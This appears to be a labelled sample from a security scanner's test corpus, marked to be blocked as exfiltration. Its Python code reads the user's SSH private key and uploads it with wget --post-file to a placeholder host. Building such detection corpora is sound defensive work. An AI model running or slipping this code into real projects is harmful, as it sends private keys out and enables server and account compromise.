# pyguard-corpus: verdict=block category=exfil rules=PG602,PG101
# what: uploads the SSH private key with wget --post-file
import os
import subprocess

key = os.path.expanduser("~/.ssh/id_ed25519")
subprocess.run(["wget", "-q", "-O", "-", f"--post-file={key}", "https://files.example.net/u"], check=False)
